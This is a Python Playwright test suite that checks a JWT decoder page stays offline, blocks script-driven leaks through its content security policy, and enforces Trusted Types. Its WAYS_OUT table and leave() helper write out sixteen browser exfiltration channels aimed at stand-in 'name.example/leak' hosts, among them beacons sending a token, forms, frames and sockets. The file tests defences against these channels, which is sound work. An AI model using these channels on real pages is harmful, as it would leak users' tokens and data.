"""The decoder in a browser that finds a server behind every name, and that notes what comes: one request, no more."""

import hashlib
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext
from support.chromium import launched
from support.decoding import ENDLESS, TOKEN, Visit
from support.recorder import Recorder

from gatepass.server.decoder import served

NewContext = Callable[..., BrowserContext]

#: Every way out that a page has, each to a host of its own.
WAYS_OUT = {
    "fetch": "fetch(url, { mode: 'no-cors' }).catch(() => {})",
    "xhr": "(() => { const asked = new XMLHttpRequest(); asked.open('GET', url); asked.send(); })()",
    "beacon": "navigator.sendBeacon(url, 'token')",
    "socket": "new WebSocket(url.replace('http', 'ws'))",
    "events": "new EventSource(url)",
    "image": "Object.assign(new Image(), { src: url })",
    "font": "new FontFace('f', `url(${url})`).load().catch(() => {})",
    "style": "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url }))",
    "prefetch": "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: url }))",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), { src: url }))",
    "object": "document.body.append(Object.assign(document.createElement('object'), { data: url }))",
    "video": "document.body.append(Object.assign(document.createElement('video'), { src: url }))",
    "module": "import(url).catch(() => {})",
    "ping": (
        "(() => { const link = Object.assign(document.createElement('a'), { href: 'javascript:0', ping: url });"
        " document.body.append(link); link.click(); })()"
    ),
    "form": (
        "(() => { const form = Object.assign(document.createElement('form'), { action: url, method: 'post' });"
        " const frame = Object.assign(document.createElement('iframe'), { name: 'f' });"
        " form.target = 'f'; document.body.append(frame, form); form.submit(); })()"
    ),
    "window": "window.open(url)",
}


@pytest.fixture(scope="module")
def chromium(watched: Recorder) -> Iterator[Browser]:
    with launched(watched.rules) as browser:
        yield browser


@pytest.fixture
def visit(new_context: NewContext, watched: Recorder) -> Visit:
    watched.seen.clear()
    return Visit(new_context(), watched.url)


def saved(visit: Visit, folder: Path) -> Path:
    with visit.page.expect_download() as downloading:
        visit.press("Save this page")
    path = folder / downloading.value.suggested_filename
    downloading.value.save_as(path)
    return path


#: What can be pressed, but for what empties the page: then there is nothing left to press.
PRESSED = "button:visible:not(#clear, #key-clear), input:visible, select:visible"
NAME = "nodes => nodes.map((node) => node.id || (node.name ? `${node.name} ${node.value}` : node.innerText))"


def press_everything(visit: Visit) -> set[str]:
    """Every button, box and choice that is there, and those that come of it."""
    pressed: set[str] = set()
    while left := [name for name in visit.page.locator(PRESSED).evaluate_all(NAME) if name not in pressed]:
        one = visit.page.locator(PRESSED).nth(visit.page.locator(PRESSED).evaluate_all(NAME).index(left[0]))
        pressed.add(left[0])
        match one.evaluate("node => node.type"):
            case "select-one":
                for value in one.evaluate("node => [...node.options].map((option) => option.value)"):
                    one.select_option(value)
            case "datetime-local":
                one.fill("2030-01-01T10:00")
            case "number":
                one.fill("60")
            case "text":
                one.fill("orders")
            case _:
                one.click()
    for last in ("Clear the key", "Clear all"):
        visit.press(last)
        pressed.add(last)
    return pressed


def test_pressing_everything_is_one_request_in_all(visit: Visit, watched: Recorder, tmp_path: Path) -> None:
    visit.open()
    visit.paste(f"{TOKEN}\n{ENDLESS}")
    assert visit.verify().startswith("Signature valid")
    saved(visit, tmp_path)
    assert press_everything(visit) >= {
        "save",
        "verify",
        "algorithm",
        "token 1",
        "Copy claims",
        "Copy token",
        "Clear all",
    }

    assert [url for url in visit.requests if not url.startswith("blob:")] == [watched.url]
    assert watched.seen == ["GET localhost/decoder"]
    assert visit.complaints == []


def test_the_ways_out_are_closed(visit: Visit, watched: Recorder) -> None:
    """Whatever a script on this page would try: nothing comes, from any of them."""
    visit.open()
    for name in WAYS_OUT:
        leave(visit, name)
    settled(visit)

    assert watched.seen == ["GET localhost/decoder"]
    assert len(visit.complaints) >= len(WAYS_OUT) - 2, visit.complaints
    gone = "[typeof RTCPeerConnection, typeof webkitRTCPeerConnection]"
    assert visit.page.evaluate(gone) == ["undefined", "undefined"]


def test_no_element_is_made_of_text(visit: Visit) -> None:
    """Trusted Types, in the browser: a sink takes no text, whoever gives it."""
    visit.open()
    sinks = {
        "markup": "document.body.innerHTML = '<b>x</b>'",
        "a part of it": "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
        "a document": "document.write('<b>x</b>')",
        "a script": "document.createElement('script').text = '1'",
        "a rule": "trustedTypes.createPolicy('x', {})",
    }
    for name, code in sinks.items():
        said = visit.page.evaluate(
            f"() => {{ try {{ {code}; return 'taken'; }} catch (error) {{ return error.name; }} }}"
        )
        assert said == "TypeError", name
    assert visit.page.locator("b").count() == 0


def test_without_the_policy_they_are_open(new_context: NewContext, watched: Recorder) -> None:
    """So that the test above has tested something."""
    watched.seen.clear()
    visit = Visit(new_context(bypass_csp=True), watched.url)
    visit.open()
    for name in WAYS_OUT:
        leave(visit, name)
        watched.until(f" {name}.example/leak")


def leave(visit: Visit, name: str) -> None:
    refused = "if (!`${error}`.includes('Trusted')) throw error;"
    code = f"url => {{ try {{ {WAYS_OUT[name]} }} catch (error) {{ {refused} }} }}"
    visit.page.evaluate(code, f"http://{name}.example/leak")


def settled(visit: Visit) -> None:
    """After whatever was begun: a turn of the page, and one honest request that comes through."""
    visit.page.evaluate("() => new Promise((done) => requestAnimationFrame(() => setTimeout(done)))")


def test_what_is_saved_is_what_was_served(visit: Visit, tmp_path: Path) -> None:
    """After a token was pasted: nothing of it is in the copy. And the page has said its hash."""
    visit.open()
    visit.paste()
    copy = saved(visit, tmp_path).read_bytes()

    assert copy == served.file().body
    assert visit.page.locator("#hash").inner_text() == hashlib.sha256(copy).hexdigest()


def test_the_copy_works_without_a_network(visit: Visit, watched: Recorder, tmp_path: Path) -> None:
    """And with its policy: what is planted there does not get out either."""
    visit.open()
    copy = saved(visit, tmp_path)
    visit.page.context.set_offline(True)
    visit.url = copy.as_uri()
    visit.open()
    visit.paste()

    assert visit.verify().startswith("Signature valid")
    assert saved(visit, tmp_path / "again").read_bytes() == copy.read_bytes()
    assert visit.complaints == []
    visit.page.context.set_offline(False)
    for name in ("fetch", "xhr", "beacon", "socket", "image", "frame"):
        leave(visit, name)
    settled(visit)
    assert len(visit.complaints) >= 6
    assert watched.seen == ["GET localhost/decoder"]
